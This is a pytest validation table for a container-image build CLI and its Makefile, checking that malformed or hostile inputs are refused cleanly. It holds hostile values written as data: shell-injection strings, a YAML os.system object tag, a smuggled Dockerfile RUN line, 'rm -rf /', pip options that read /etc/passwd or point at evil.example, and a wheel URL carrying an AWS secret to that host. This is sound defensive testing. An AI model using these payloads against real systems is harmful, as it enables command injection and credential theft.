"""Malformed input, one table: matrix files, matrix values, CLI arguments, environment settings, records
and Make variables. Each case runs the real CLI (or make) in a child process and must:

- exit 2, with no traceback, and say where (file:line and key, or the variable) and what would be right;
- write nothing (images/, digests/, reports/ and the case's folder are the same after);
- finish within 5 s and 200 MB (the child's wall time and peak RSS, measured by a small go-between, below);
- never print the case's password.

DOCKER_HOST points nowhere, so a case that reached the engine would fail with 1, not 2.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.conftest import ROOT

SECRET = "s3cret-pw"
SHA = "a" * 64
PEM = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"
# A throwaway Ed25519 key made for this table (openssl genpkey -algorithm ed25519): it signs nothing anywhere.
PRIVATE_KEY = ("-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIMCdOhbPaMYXWdKgUgw70Zh5Od8CRyxIYcyHcqjXlmuO\n"
               "-----END PRIVATE KEY-----\n")
OK_MATRIX = 'default: v2.6-cu124\nimages:\n  v2.6-cu124: {torch: "2.6.0"}\n'
MAX_SECONDS, MAX_RSS_MB = 5, 200


@dataclass(frozen=True)
class Case:
    id: str
    args: tuple[str, ...] = ("validate",)
    matrix: str | bytes | None = OK_MATRIX  # written to {tmp}/matrix.yaml and passed as --matrix; None: none passed
    env: dict[str, str] = field(default_factory=dict)
    files: dict[str, str | bytes] = field(default_factory=dict)  # more files in {tmp}
    says: tuple[str, ...] = ()  # each must be in stderr ({tmp} is the case's folder)
    make: tuple[str, ...] = ()  # run `make -s <these>` in the repository instead of the CLI
    marker: bool = False  # the payload tries to create {tmp}/pwned: it must not exist after


def entry(body: str, tag: str = "v2.6-cu124") -> str:
    return f"default: {tag}\nimages:\n  {tag}: {body}\n"


def alias_bomb() -> str:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]" for i in range(8)]
    return "\n".join(lines) + '\ndefault: v2.6-cu124\nimages:\n  v2.6-cu124: {torch: *i}\n'


def many_bad_tags(size: int) -> str:
    """A matrix of about `size` bytes whose tags are all malformed (10 MB: about 270,000)."""
    lines, total = ["default: v2.6-cu124", "images:"], 0
    while total < size:
        lines.append(f'  bad-tag-{len(lines)}: {{torch: "2.6.0"}}')
        total += len(lines[-1]) + 1
    return "\n".join(lines) + "\n"


MATRIX_FILES = [
    Case("not-utf8", matrix=b"default: v2.6-cu124\nimages:\n  v2.6-cu124: {torch: \"2.6.0\"}  # caf\xe9\n",
         says=("{tmp}/matrix.yaml:3", "byte 0xe9 is not UTF-8")),
    Case("nul-byte", matrix=b"default: v2.6-cu124\x00\nimages: {}\n", says=("{tmp}/matrix.yaml:1", "control character '\\x00'")),
    Case("ctrl-x01", matrix=b"default: v2.6-cu124\nimages:\n  v2.6-cu124: {torch: \"2.6.0\x01\"}\n",
         says=("{tmp}/matrix.yaml:3", "control character '\\x01'")),
    Case("escape-x1b", matrix=b"default: v2.6-cu124\n\x1b[2Jimages: {}\n", says=("{tmp}/matrix.yaml:2", "control character")),
    Case("empty-file", matrix="", says=("{tmp}/matrix.yaml", "expected a mapping with keys: default, defaults, images")),
    Case("only-a-comment", matrix="# nothing here\n", says=("expected a mapping",)),
    Case("top-level-list", matrix="- v2.6-cu124\n", says=("expected a mapping",)),
    Case("top-level-scalar", matrix="v2.6-cu124\n", says=("expected a mapping",)),
    Case("unclosed-flow", matrix='default: v2.6-cu124\nimages:\n  v2.6-cu124: {torch: "2.6.0"\n  v2.6-cu118: {}\n',
         says=("{tmp}/matrix.yaml:4", "malformed YAML")),
    Case("tab-indent", matrix='default: v2.6-cu124\nimages:\n\tv2.6-cu124: {torch: "2.6.0"}\n', says=("{tmp}/matrix.yaml:3", "malformed YAML")),
    Case("two-documents", matrix=OK_MATRIX + "---\n" + OK_MATRIX, says=("{tmp}/matrix.yaml:4", "malformed YAML")),
    Case("alias-bomb", matrix=alias_bomb(), says=("aliases are not allowed", "write the value out")),
    Case("plain-alias", matrix='v: &v "2.6.0"\ndefault: v2.6-cu124\nimages:\n  v2.6-cu124: {torch: *v}\n',
         says=("{tmp}/matrix.yaml:1", "aliases are not allowed")),
    Case("merge-key-alias", matrix='x: &x {torch: "2.6.0"}\ndefault: v2.6-cu124\nimages:\n  v2.6-cu124: {<<: *x}\n',
         says=("{tmp}/matrix.yaml:4", "YAML reads '<<' as a merge")),
    Case("complex-key", matrix='default: v2.6-cu124\nimages:\n  ? [v2.6-cu124, v2.6-cu118]\n  : {torch: "2.6.0"}\n',
         says=("{tmp}/matrix.yaml:3", "a key must be a string; this one is a list or a mapping")),
    Case("bool-key", matrix='default: v2.6-cu124\nimages:\n  v2.6-cu124: {torch: "2.6.0", on: true}\n',
         says=("{tmp}/matrix.yaml:3", "YAML reads 'on' as a bool: quote it")),
    Case("float-key", matrix='default: v2.6-cu124\nimages:\n  2.6: {torch: "2.6.0"}\n', says=("reads '2.6' as a float",)),
    Case("null-key", matrix='default: v2.6-cu124\n~: 1\nimages:\n  v2.6-cu124: {torch: "2.6.0"}\n', says=("{tmp}/matrix.yaml:2", "as a null")),
    Case("duplicate-tag", matrix=OK_MATRIX + '  v2.6-cu124: {torch: "2.6.0"}\n',
         says=("{tmp}/matrix.yaml:4", "duplicate key 'v2.6-cu124' (first on line 3)")),
    Case("deep-nesting", matrix="default: v2.6-cu124\nimages: " + "[" * 20000 + "]" * 20000 + "\n",
         says=("{tmp}/matrix.yaml",)),
    Case("python-object-tag", matrix='default: v2.6-cu124\nimages:\n  v2.6-cu124: !!python/object/apply:os.system ["touch {tmp}/pwned"]\n',
         says=("{tmp}/matrix.yaml:3", "malformed YAML"), marker=True),
    Case("10MB-270000-bad-tags", matrix=many_bad_tags(10_000_000), says=("{tmp}/matrix.yaml", "a matrix is at most 256 KiB")),
    Case("250KB-bad-tags-capped", matrix=many_bad_tags(250_000), says=("images.bad-tag-2: tag 'bad-tag-2' does not follow",
                                                                         "images.bad-tag-51:", "... and ")),
    Case("matrix-is-a-folder", args=("--matrix", "{tmp}", "validate"), matrix=None, says=("{tmp}: is a folder",)),
    Case("matrix-missing", args=("--matrix", "{tmp}/nope.yaml", "validate"), matrix=None,
         says=("{tmp}/nope.yaml", "cannot read the matrix: No such file")),
]

MATRIX_VALUES = [
    Case("default-list", matrix='default: [v2.6-cu124]\nimages:\n  v2.6-cu124: {torch: "2.6.0"}\n',
         says=("{tmp}/matrix.yaml:1: default", "expected one tag, e.g. 'default: v2.6-cu124'")),
    Case("default-number", matrix='default: 2.6\nimages:\n  v2.6-cu124: {torch: "2.6.0"}\n', says=("{tmp}/matrix.yaml:1: default",)),
    Case("defaults-list", matrix='default: v2.6-cu124\ndefaults: [base]\nimages:\n  v2.6-cu124: {torch: "2.6.0"}\n',
         says=("{tmp}/matrix.yaml:2: defaults", "expected a mapping of base, size_budget")),
    Case("defaults-string", matrix='default: v2.6-cu124\ndefaults: bookworm\nimages:\n  v2.6-cu124: {torch: "2.6.0"}\n',
         says=("{tmp}/matrix.yaml:2: defaults", "e.g. 'defaults: {base: bookworm}'")),
    Case("images-list", matrix="default: v2.6-cu124\nimages: [v2.6-cu124]\n", says=("{tmp}/matrix.yaml:2: images", "needs at least one tag")),
    Case("entry-null", matrix="default: v2.6-cu124\nimages:\n  v2.6-cu124:\n", says=("images.v2.6-cu124", "expected a mapping")),
    Case("tag-trailing-newline", matrix='default: "v2.6-cu124\\n"\nimages:\n  "v2.6-cu124\\n": {torch: "2.6.0"}\n',
         says=("{tmp}/matrix.yaml:3: images.'v2.6-cu124\\n'", "does not follow v<torch major.minor>-cu<CUDA digits>")),
    Case("tag-unicode-digits", matrix=entry('{torch: "2.6.0"}', "v2.6-cu١٢٤"), says=("does not follow",)),
    Case("tag-escape-character", matrix='default: v2.6-cu124\nimages:\n  "v2.6-cu124\\e[31m": {torch: "2.6.0"}\n',
         says=("'v2.6-cu124\\x1b[31m'",)),
    Case("tag-10KB", matrix=f'default: v2.6-cu124\nimages:\n  ? v{"9" * 10_000}\n  : {{torch: "2.6.0"}}\n',
         says=("{tmp}/matrix.yaml:3: images.'v999", "... (10001 characters) does not follow")),
    Case("base-newline-run", matrix=entry('{torch: "2.6.0", base: "debian:bookworm\\nRUN echo INJECTED > /etc/motd\\n#@sha256:' + SHA + '"}'),
         says=("images.v2.6-cu124.base", "is not an image reference by Docker's grammar")),
    Case("base-platform-flag", matrix=entry('{torch: "2.6.0", base: "--platform=linux/arm64 debian:bookworm@sha256:' + SHA + '"}'),
         says=("images.v2.6-cu124.base", "not an image reference")),
    Case("base-uppercase-path", matrix=entry('{torch: "2.6.0", base: "Library/Debian:bookworm@sha256:' + SHA + '"}'),
         says=("not an image reference",)),
    Case("base-short-digest", matrix=entry('{torch: "2.6.0", base: "debian:bookworm@sha256:abc"}'), says=("not an image reference",)),
    Case("base-no-digest", matrix=entry('{torch: "2.6.0", base: "debian:bookworm-slim"}'), says=("is not pinned", "@sha256:")),
    Case("base-credentials", matrix=entry('{torch: "2.6.0", base: "user:' + SECRET + '@registry.example.com/debian:bookworm@sha256:' + SHA + '"}'),
         says=("images.v2.6-cu124.base: holds credentials",)),
    Case("base-list", matrix=entry('{torch: "2.6.0", base: [bookworm]}'), says=("images.v2.6-cu124.base", "expected a Debian suite")),
    Case("defaults-base-injection", matrix='default: v2.6-cu124\ndefaults: {base: "bookworm; rm -rf /"}\nimages:\n  v2.6-cu124: {torch: "2.6.0"}\n',
         says=("not an image reference",)),
    Case("extra-index-url-option", matrix=entry('{torch: "2.6.0", extra_packages: ["--index-url http://evil.example/simple"]}'),
         says=("images.v2.6-cu124.extra_packages", "is not a PEP 508 requirement")),
    Case("extra-requirement-file", matrix=entry('{torch: "2.6.0", extra_packages: ["-r /etc/passwd"]}'), says=("not a PEP 508 requirement",)),
    Case("extra-option-in-marker", matrix=entry("{torch: \"2.6.0\", extra_packages: ['einops; platform_release == \"x --index-url http://evil.example/s\"']}"),
         says=("what pip reads as an option",)),
    Case("extra-env-variable", matrix=entry("{torch: \"2.6.0\", allow_direct_urls: true, extra_packages: ['einops @ https://evil.example/${AWS_SECRET_ACCESS_KEY}/e.whl']}"),
         says=("option, comment or variable",)),
    Case("extra-direct-url", matrix=entry('{torch: "2.6.0", extra_packages: ["einops @ https://example.com/einops-0.8.1-py3-none-any.whl"]}'),
         says=("is a direct URL", "allow_direct_urls: true")),
    Case("extra-direct-url-credentials", matrix=entry('{torch: "2.6.0", allow_direct_urls: true, extra_packages: ["einops @ https://me:' + SECRET + '@example.com/e.whl"]}'),
         says=("carries credentials",)),
    Case("extra-file-url", matrix=entry('{torch: "2.6.0", allow_direct_urls: true, extra_packages: ["einops @ file:///tmp/e.whl"]}'),
         says=("a direct URL here is https://",)),
    Case("extra-not-a-list", matrix=entry('{torch: "2.6.0", extra_packages: "einops"}'), says=("expected a list of requirement strings",)),
    Case("extra-empty-string", matrix=entry('{torch: "2.6.0", extra_packages: [""]}'), says=("is not a requirement string",)),
    Case("extra-newline", matrix=entry('{torch: "2.6.0", extra_packages: ["einops\\nnumpy"]}'), says=("not a PEP 508 requirement",)),
    Case("allow-direct-urls-string", matrix=entry('{torch: "2.6.0", allow_direct_urls: "yes"}'),
         says=("images.v2.6-cu124.allow_direct_urls", "expected true or false")),
    Case("size-budget-zero", matrix=entry('{torch: "2.6.0", size_budget: 0GB}'), says=("images.v2.6-cu124.size_budget", "give a positive size")),
    Case("size-budget-negative", matrix=entry('{torch: "2.6.0", size_budget: -1GB}'), says=("size_budget", '"7GB"')),
    Case("size-budget-unicode-digit", matrix=entry('{torch: "2.6.0", size_budget: ٧GB}'), says=("size_budget",)),
    Case("defaults-size-budget-zero", matrix='default: v2.6-cu124\ndefaults: {size_budget: 0MB}\nimages:\n  v2.6-cu124: {torch: "2.6.0"}\n',
         says=("{tmp}/matrix.yaml:2: defaults.size_budget", "positive")),
    Case("torch-list", matrix=entry("{torch: [2.6.0]}"), says=("images.v2.6-cu124.torch", "expected a version as a quoted string")),
    Case("torch-binary", matrix=entry("{torch: !!binary MjYw}"), says=("images.v2.6-cu124.torch",)),
    Case("python-mapping", matrix=entry('{torch: "2.6.0", python: {v: 3}}'), says=("images.v2.6-cu124.python",)),
]

CLI_ARGUMENTS = [
    Case("tag-shell", args=("validate", "--tag", "v2.6-cu124;touch {tmp}/pwned"), says=("is not a tag in matrix.yaml",), marker=True),
    Case("tag-newline", args=("validate", "--tag", "v2.6-cu124\n"), says=("'v2.6-cu124\\n' is not a tag",)),
    Case("fetch-tags-shell", args=("fetch", "--tag", "v2.6-cu124,v2.6;touch {tmp}/pwned"), says=("is not a tag in matrix.yaml",),
         marker=True),
    Case("fetch-proxy-ca-missing", args=("fetch",), env={"SSL_CERT_FILE": "{tmp}/missing.pem"}, says=("SSL_CERT_FILE names", "not a file")),
    Case("registry-scheme", args=("push", "--registry", "https://registry.example.com"), says=("REGISTRY=", "leave out the scheme")),
    Case("registry-uppercase-path", args=("push", "--registry", "Registry.Example.com/ML"), says=("the parts after the host are lowercase",)),
    Case("registry-credentials", args=("pull", "--registry", f"alice:{SECRET}@registry.example.com"), says=("REGISTRY holds credentials",)),
    Case("registry-tag", args=("pull", "--registry", "registry.example.com/ml:latest"), says=("is not host[:port][/namespace]",)),
    Case("registry-newline", args=("push", "--registry", "registry.example.com\n"), says=("is not host[:port]",)),
    Case("registry-missing", args=("push",), env={"TORCHYARD_REGISTRY": ""}, says=("name the registry: REGISTRY=",)),
    Case("repo-uppercase", args=("--repo", "Torchyard", "build"), says=("REPO='Torchyard' is not a repository name",)),
    Case("repo-shell", args=("--repo", "t;touch {tmp}/pwned", "size"), says=("is not a repository name",), marker=True),
    Case("bind-hostname", args=("run", "--bind", "localhost"), says=("BIND='localhost'", "give an IP address")),
    Case("port-zero", args=("run", "--jupyter-port", "0"), says=("JUPYTER_PORT='0'", "from 1 to 65535")),
    Case("port-words", args=("run", "--ssh-port", "22;id"), says=("SSH_PORT=",)),
    Case("port-superscript", args=("run", "--ssh-port", "²²"), says=("SSH_PORT=",)),
    Case("workspace-is-a-file", args=("run", "--workspace", "{tmp}/file"), files={"file": "x"},
         says=("WORKSPACE=", "exists and is not a folder")),
    Case("workspace-colon", args=("run", "--workspace", "{tmp}/a:/etc"), says=("no ':'",)),
    Case("data-not-a-folder", args=("smoke", "--data", "{tmp}/none"), says=("DATA=", "not a folder")),
    Case("data-newline", args=("smoke", "--data", "{tmp}\n"), says=("DATA=",)),
    Case("reports-is-a-file", args=("build", "--reports", "{tmp}/file"), files={"file": "x"}, says=("REPORTS=", "is not a folder")),
    Case("digests-under-a-file", args=("pull", "--registry", "127.0.0.1:5000", "--digests", "{tmp}/file/digests"),
         files={"file": "x"}, says=("DIGESTS=",)),
    Case("run-all", args=("run", "--tag", "all"), matrix=None, says=("run starts one workspace",)),
    Case("matrix-all-and-a-tag", args=("matrix", "--tag", "all,v2.6-cu124"), matrix=None,
         says=("TAG: 'all,v2.6-cu124' mixes 'all' with tag names", "give TAG=all alone")),
    Case("workspace-name-300", args=("run", "--workspace", "{tmp}/" + "w" * 300), says=("WORKSPACE=", "is 300 bytes",
                                                                                          "at most 255 bytes")),
    Case("reports-name-300", args=("report",), env={"TORCHYARD_REPORTS": "{tmp}/" + "r" * 300},
         says=("REPORTS=", "at most 255 bytes")),
    Case("reports-empty", args=("report",), env={"TORCHYARD_REPORTS": ""}, says=("REPORTS is empty; name a folder",)),
    Case("reports-path-5000", args=("report",), env={"TORCHYARD_REPORTS": "{tmp}" + "/r" * 2500},
         says=("REPORTS=", "give one shorter than 4096 bytes")),
    Case("unknown-command", args=("bulid",), says=("invalid choice: 'bulid'",)),
] + [
    # verify-image's KEY and push's and smoke's SIGNING_KEY (builder/attest/dsse.py): refused before any work
    Case(f"key-{name}", args=("verify-image", "--registry", "127.0.0.1:5000", *key), files=files, env=env, says=says)
    for name, key, files, env, says in [
        ("missing", ("--key", "{tmp}/none.pem"), {}, {}, ("KEY='{tmp}/none.pem' cannot be read",)),
        ("private", ("--key", "{tmp}/k.pem"), {"k.pem": PRIVATE_KEY}, {}, ("is a private key; give its public half",)),
        ("certificate", ("--key", "{tmp}/c.pem"), {"c.pem": PEM}, {}, ("is not a PEM public key",)),
        ("empty", (), {}, {"TORCHYARD_KEY": ""}, ("name the key: KEY=<a PEM file>",)),
    ]
] + [
    Case(f"signing-key-{name}", args=(command, *more), files={"k.pem": PRIVATE_KEY}, env={"TORCHYARD_SIGNING_KEY": key},
         says=says)
    for name, command, more, key, says in [
        ("others-may-read", "push", ("--registry", "127.0.0.1:5000"), "{tmp}/k.pem",
         ("SIGNING_KEY='{tmp}/k.pem' may be read by others than its owner", "chmod 600")),
        ("missing", "smoke", (), "{tmp}/none.pem", ("SIGNING_KEY='{tmp}/none.pem' cannot be read",)),
        ("a-folder", "push", ("--registry", "127.0.0.1:5000"), "{tmp}", ("SIGNING_KEY=", "is a folder")),
    ]
]

ENVIRONMENT = [
    Case("torch-index-not-a-url", args=("lock",), env={"TORCHYARD_TORCH_INDEX": "not-a-url"},
         says=("TORCHYARD_TORCH_INDEX='not-a-url'", "http/https URL with a host")),
    Case("torch-index-credentials-bad-port", args=("lock",), env={"TORCHYARD_TORCH_INDEX": f"https://u:{SECRET}@mirror.example:99999/whl"},
         says=("TORCHYARD_TORCH_INDEX='https://mirror.example:99999/whl'",)),
    Case("pip-index-url-not-a-url", args=("build",), env={"PIP_INDEX_URL": "mirror.example/simple"}, says=("pip index-url=",)),
    Case("pip-index-url-two", args=("build",), env={"PIP_INDEX_URL": "https://a.example/simple https://b.example/simple"},
         says=("pip index-url holds 2 URLs",)),
    Case("pip-trusted-host", args=("lock",), env={"PIP_TRUSTED_HOST": "evil.example/;x"}, says=("pip trusted-host=", "host[:port]")),
    Case("pip-timeout-words", args=("lock",), env={"PIP_TIMEOUT": "forever"}, says=("pip timeout=",)),
    Case("pip-conf-not-utf8", args=("lock",), env={"PIP_CONFIG_FILE": "{tmp}/pip.conf"},
         files={"pip.conf": b"[global]\nindex-url = https://caf\xe9.example/simple\n"}, says=("{tmp}/pip.conf", "not UTF-8")),
    Case("pip-conf-no-section", args=("lock",), env={"PIP_CONFIG_FILE": "{tmp}/pip.conf"},
         files={"pip.conf": f"index-url = https://u:{SECRET}@x.example/simple\n"}, says=("{tmp}/pip.conf", "cannot parse")),
    Case("ca-not-a-file", args=("build",), env={"REQUESTS_CA_BUNDLE": "{tmp}/missing.pem"}, says=("REQUESTS_CA_BUNDLE names", "not a file")),
    Case("ca-binary", args=("build",), env={"SSL_CERT_FILE": "{tmp}/ca.der"}, files={"ca.der": b"\x30\x82\x01\x0a\xff"},
         says=("SSL_CERT_FILE names", "not a PEM bundle")),
    Case("ca-no-certificate", args=("lock",), env={"PIP_CERT": "{tmp}/ca.pem"}, files={"ca.pem": "hello\n"}, says=("holds no PEM certificate",)),
    Case("gpus-some", args=("smoke",), env={"TORCHYARD_GPUS": "some"}, says=("TORCHYARD_GPUS='some'", "'all'", "'none'")),
    Case("registry-variable", args=("push",), env={"TORCHYARD_REGISTRY": "ml"}, says=("REGISTRY='ml'",)),
    Case("repo-variable", args=("size",), env={"TORCHYARD_REPO": "a b"}, says=("REPO='a b'",)),
    Case("debian-mirror-option", args=("base",), env={"TORCHYARD_DEBIAN_MIRROR": "--customize-hook=touch {tmp}/pwned"},
         says=("TORCHYARD_DEBIAN_MIRROR=",), marker=True),
    Case("source-date-epoch", args=("build",), env={"SOURCE_DATE_EPOCH": "yesterday"}, says=("SOURCE_DATE_EPOCH='yesterday'",)),
    Case("public-key-missing", args=("run",), env={"PUBLIC_KEY_FILE": "{tmp}/id.pub"}, says=("PUBLIC_KEY_FILE=", "no such file")),
    Case("public-key-is-private", args=("run",), env={"PUBLIC_KEY_FILE": "{tmp}/id"},
         files={"id": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl\n-----END OPENSSH PRIVATE KEY-----\n"}, says=("is a private key",)),
    Case("public-key-garbage", args=("run",), env={"PUBLIC_KEY_FILE": "{tmp}/id.pub"},
         files={"id.pub": "ssh-ed25519 AAAA me\ncommand=\"touch /x\" ssh-rsa AAAA\n"}, says=("does not hold OpenSSH public keys",)),
    Case("nocache-words", args=("build",), env={"TORCHYARD_NOCACHE": "please"}, says=("NOCACHE='please'", "give 1")),
]

RECORDS = [
    Case(f"digests-{name}", args=("pull", "--registry", "127.0.0.1:5000", "--digests", "{tmp}/digests"),
         files={"digests/v2.6-cu124.json": content}, says=("{tmp}/digests/v2.6-cu124.json", expected))
    for name, content, expected in [
        ("list", "[]\n", "is broken: Expected `object`, got `array`"),
        ("not-json", "{\n", "is broken: not JSON"),
        ("not-utf8", b'{"\xff": 1}', "is broken: not UTF-8"),
        ("entry-without-digest", '{"127.0.0.1:5000/torchyard:v2.6-cu124": {"image_id": "sha256:%s"}}' % ("1" * 64),
         "missing required field `digest` - at `$['127.0.0.1:5000/torchyard:v2.6-cu124']`"),
        ("digest-not-sha256", '{"127.0.0.1:5000/torchyard:v2.6-cu124": {"digest": "md5:x", "image_id": "sha256:x"}}',
         "matching regex '^sha256:[0-9a-f]{64}$'"),
        ("image-id-short", '{"127.0.0.1:5000/torchyard:v2.6-cu124": {"digest": "sha256:%s", "image_id": "sha256:x"}}'
         % ("1" * 64), ".image_id`"),
        ("key-not-a-reference", '{"r": {"digest": "md5:x", "image_id": "sha256:x"}}', "the key $['r'] is not a reference"),
    ]
] + [
    # nested 100,000 deep: refused before any parser recurses, by every command that reads the record
    Case(f"digests-nested-{command}", args=(command, *more, "--digests", "{tmp}/digests"),
         files={"digests/v2.6-cu124.json": "[" * 100_000 + "]" * 100_000},
         says=("{tmp}/digests/v2.6-cu124.json is broken", "nested more than"))
    for command, more in [("push", ("--registry", "127.0.0.1:5000")), ("pull", ("--registry", "127.0.0.1:5000")),
                          ("k8s", ()), ("slurm", ())]
]

PAYLOADS = ["v2.6-cu124;touch {tmp}/pwned", "$(shell touch {tmp}/pwned)", "`touch {tmp}/pwned`"]
MAKE_VARIABLES = [
    Case(f"make-{variable}-{i}", matrix=None, make=(target, f"{variable}={payload}"), marker=True,
         says=(says, "] Error 2"))  # make exits 2 whenever a recipe fails; the CLI's own status is in its line
    for i, (variable, target, says, payload) in enumerate(
        [("TAG", "validate", "is not a tag", payload) for payload in PAYLOADS] + [("TAG", "fetch", "is not a tag", PAYLOADS[0])]
        + [(variable, target, f"{variable}=", PAYLOADS[i % 3]) for i, (variable, target) in enumerate([
            ("REGISTRY", "push"), ("REPO", "push"), ("WORKSPACE", "run"), ("DATA", "smoke"), ("BIND", "run"),
            ("JUPYTER_PORT", "run"), ("SSH_PORT", "run")])])
]

CASES = MATRIX_FILES + MATRIX_VALUES + CLI_ARGUMENTS + ENVIRONMENT + RECORDS + MAKE_VARIABLES


# Spawns the command and writes its status, wall time and peak RSS. A child's ru_maxrss counts the memory of
# the process it was forked from (Linux keeps the high-water mark across exec): forked from pytest it would
# read pytest's size. Spawned from this small process (python -S, ~10 MB), it reads the command's own.
MEASURE = """
import json, os, sys, time
out, command = sys.argv[1], sys.argv[2:]
started = time.monotonic()
pid = os.posix_spawnp(command[0], command, os.environ)
_, status, usage = os.wait4(pid, 0)
with open(out, "w") as f:
    json.dump({"status": os.waitstatus_to_exitcode(status), "seconds": time.monotonic() - started,
               "max_rss_mb": usage.ru_maxrss / 1024}, f)
"""


@dataclass(frozen=True)
class Outcome:
    returncode: int
    stdout: str
    stderr: str
    seconds: float
    max_rss_mb: float
    changed: list[str]
    tmp: str


def _snapshot(*folders: Path) -> dict[str, tuple[int, int]]:
    return {str(p): (p.stat().st_mtime_ns, p.stat().st_size) for folder in folders if folder.exists()
            for p in [folder, *folder.rglob("*")]}


def _fill(text: str, tmp: Path) -> str:
    return text.replace("{tmp}", str(tmp))


def lay_out(case: Case, tmp: Path) -> list[str]:
    """The case's files and matrix under tmp; returns its arguments to the CLI."""
    for rel, content in case.files.items():
        (tmp / rel).parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            (tmp / rel).write_bytes(content)
        else:
            (tmp / rel).write_text(_fill(content, tmp))
    args = [_fill(a, tmp) for a in case.args]
    if case.matrix is not None:
        data = case.matrix if isinstance(case.matrix, bytes) else _fill(case.matrix, tmp).encode()
        (tmp / "matrix.yaml").write_bytes(data)
        args = ["--matrix", str(tmp / "matrix.yaml"), *args]
    return args


def run_case(case: Case) -> Outcome:
    with tempfile.TemporaryDirectory(prefix="torchyard-bad-") as name:
        tmp = Path(name)
        args = lay_out(case, tmp)
        command = ["make", "-s", *(_fill(a, tmp) for a in case.make)] if case.make else [sys.executable, "-m", "builder", *args]
        env = {k: v for k, v in os.environ.items() if not k.startswith("TORCHYARD_")}
        env.update({"DOCKER_HOST": "unix:///nonexistent/docker.sock", "HOME": str(tmp)})  # no engine; no ~/.ssh key
        env.update({k: _fill(v, tmp) for k, v in case.env.items()})
        watched = [ROOT / "images", ROOT / "digests", ROOT / "reports", ROOT / "workspace", tmp]
        before = _snapshot(*watched)
        measured = tmp.parent / f"{tmp.name}.json"
        result = subprocess.run([sys.executable, "-S", "-c", MEASURE, str(measured), *command], cwd=ROOT, env=env,
                                capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=60)
        figures = json.loads(measured.read_text())
        measured.unlink()
        after = _snapshot(*watched)
        changed = sorted(set(before.items()) ^ set(after.items()))
        if (tmp / "pwned").exists():
            changed.append((str(tmp / "pwned"), "created by the payload"))
        return Outcome(figures["status"], result.stdout, result.stderr, figures["seconds"], figures["max_rss_mb"],
                       [c[0] for c in changed], str(tmp))


@pytest.fixture(scope="module")
def outcomes(request) -> dict[str, Outcome]:
    """The selected cases, two at a time (each child's time and memory are its own)."""
    selected = [item.callspec.params["case"] for item in request.session.items
                if item.module is request.module and getattr(item, "callspec", None) and "case" in item.callspec.params]
    with ThreadPoolExecutor(max_workers=2) as pool:
        return dict(zip([c.id for c in selected], pool.map(run_case, selected)))


def test_the_table_covers_every_class_with_enough_cases():
    assert len({c.id for c in CASES}) == len(CASES)
    assert len(CASES) >= 50
    for group in (MATRIX_FILES, MATRIX_VALUES, CLI_ARGUMENTS, ENVIRONMENT, RECORDS, MAKE_VARIABLES):
        assert len(group) >= 5


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_is_refused_with_exit_2_and_nothing_else(case, outcomes):
    got = outcomes[case.id]
    report = f"exit {got.returncode}\nstdout: {got.stdout[-2000:]}\nstderr: {got.stderr[-3000:]}"
    assert got.returncode == 2, report
    assert "Traceback" not in got.stderr + got.stdout, report
    for text in case.says:
        assert text.replace("{tmp}", got.tmp) in got.stderr, report
    assert got.changed == [], f"written: {got.changed}\n{report}"
    assert got.seconds < MAX_SECONDS, f"{got.seconds:.1f}s\n{report}"
    assert got.max_rss_mb < MAX_RSS_MB, f"{got.max_rss_mb:.0f} MB\n{report}"
    assert SECRET not in got.stdout + got.stderr, report
    assert len(got.stderr.splitlines()) < 60, "a refusal lists at most 50 problems and a count"
